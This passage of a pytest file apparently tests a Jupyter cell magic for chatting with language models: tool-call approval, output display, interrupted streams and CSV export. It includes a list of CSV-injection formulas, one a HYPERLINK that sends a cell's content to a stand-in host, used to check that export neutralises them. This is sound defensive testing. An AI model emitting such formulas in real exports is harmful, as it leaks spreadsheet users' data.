    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools get_weather --approve", TWO_CITIES)
    assert WEATHER_CALLS == []
    assert (
        "cannot answer input(), so --approve denied every call" in shown(captured)[-1]["data"]["text/plain"]
    )


def test_terminal_shows_lines_and_pretty_json(typed_ns, fake_api):
    magics(typed_ns).display = "text"
    fake_api.enqueue(Script(text='{"name": "Ada", "age": 36}'))
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "--schema Person -o ada", "Ada")
        typed_ns.run_cell_magic(
            "oxen", "-m tool-model --tools get_weather", 'CALL get_weather {"city": "Rome"}'
        )
    assert captured.outputs == []
    lines = captured.stdout.splitlines()
    assert lines[:5] == ['{"name": "Ada", "age": 36}', "{", '  "name": "Ada",', '  "age": 36', "}"]
    assert lines[5].startswith("[gpt-5-2-chat-latest · ")
    assert lines[6] == '→ get_weather(city="Rome") = {"temp": 18, "note": "warm"}'
    assert lines[7].startswith("Results: get_weather[call_0_0] = ")
    assert lines[8].startswith("[tool-model · 2 requests · 1 tool call · ")
    assert typed_ns.user_ns["ada"] == Person(name="Ada", age=36)


def test_schema_and_tools_together_keep_the_lines_and_show_the_table(typed_ns, fake_api):
    def lookup(name: str) -> dict:
        """The age of a person."""
        print(f"looking up {name}")
        return {"age": 36}

    typed_ns.user_ns["lookup"] = lookup
    fake_api.handler = lambda body: (
        Script(text='{"name": "Ada", "age": 36}')
        if body["messages"][-1]["role"] == "tool"
        else Script(chunks=[], finish_reason="tool_calls", tool_calls=[
            {"id": "c1", "type": "function", "function": {"name": "lookup", "arguments": '{"name": "Ada"}'}}
        ])
    )  # fmt: skip
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "--schema Person --tools lookup -o ada", "How old was Ada?")
    assert typed_ns.user_ns["ada"] == Person(name="Ada", age=36)
    assert "looking up Ada" in captured.stdout  # what the tool printed stays
    line, table, footer = shown(captured)
    assert line["data"]["text/plain"] == '→ lookup(name="Ada") = {"age": 36}'
    assert table["data"]["text/html"].startswith('<table class="oxen-object">')
    assert "2 requests · 1 tool call · " in footer["data"]["text/plain"]


def test_help_documents_the_typed_options(ip):
    doc = ip.find_cell_magic("oxen").__doc__
    for option in ("--schema", "--tools", "--approve", "--max-repairs", "--max-tool-rounds", "list[NAME]"):
        assert option in doc


def test_interrupting_a_schema_reply_keeps_its_text_and_gives_no_object(typed_ns, fake_api):
    typed_ns.user_ns["ada"] = "before"
    chunks = ['{"name": ', '"Ada", ', '"age": ', "36", "}"]
    fake_api.enqueue(Script(chunks=chunks, delay=0.01))
    session = oxen_notebook.default_session()
    seen: list[str] = []

    def stop_after_two(event: Any) -> None:
        seen.append(event.delta)
        if len(seen) == 2:
            raise KeyboardInterrupt

    session.on("delta", stop_after_two)
    with pytest.raises(OxenInterrupted, match="kept in history"), capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "--schema Person -o ada", "Ada")
    assert typed_ns.user_ns["ada"] == "before"
    last = session.messages[-1]
    assert last.finish_reason == "interrupted" and last.content == '{"name": "Ada", '
    *text, footer = shown(captured)
    assert "".join(o["data"]["text/html"] for o in text) == render_markdown(last.content)
    assert "interrupted" in footer["data"]["text/plain"]


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def test_export_csv_makes_formulas_inert_and_leaves_the_dataframe_alone(ip, fake_api, tmp_path):
    """OWASP's CSV-injection rule: a cell starting with = + - @ tab or CR gets a ' in front, and
    every cell is quoted; the DataFrame and the JSON export keep the text as the model wrote it."""
    import csv

    fake_api.enqueue(*(Script(chunks=[text]) for text in FORMULAS))
    with capture_output():
        for i in range(len(FORMULAS)):
            ip.run_cell_magic("oxen", "", f"formula {i}")
        ip.run_line_magic("oxen", f"export {tmp_path / 'chat.csv'}")
    with open(tmp_path / "chat.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    text = (tmp_path / "chat.csv").read_text(encoding="utf-8")
    assert [r["content"] for r in rows if r["role"] == "assistant"] == ["'" + f for f in FORMULAS]
    assert [r["content"] for r in rows if r["role"] == "user"] == [f"formula {i}" for i in range(6)]
    header = text.split("\n", 1)[0]
    assert header.startswith('"') and header.count('","') == len(rows[0]) - 1  # every cell quoted
    frame = oxen_notebook.default_session().to_dataframe()
    assert frame["content"].tolist()[1::2] == FORMULAS


def test_oxen_models_never_breaks_an_id(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    frame = ip.run_line_magic("oxen", "models")
    html = frame._repr_html_()
    column = list(frame.columns).index("id") + 1
    assert f".oxen-ids tbody td:nth-of-type({column}) {{ white-space: nowrap; }}" in html
    row = re.search(r"<tbody>\s*<tr>\s*<th>0</th>((?:\s*<td>[^<]*</td>)+)", html)
    assert row is not None
    assert re.findall(r"<td>([^<]*)</td>", row.group(1))[column - 1] == frame["id"][0]
    assert frame[["id"]]._repr_html_().count("nowrap") == 0  # what is derived is a plain DataFrame
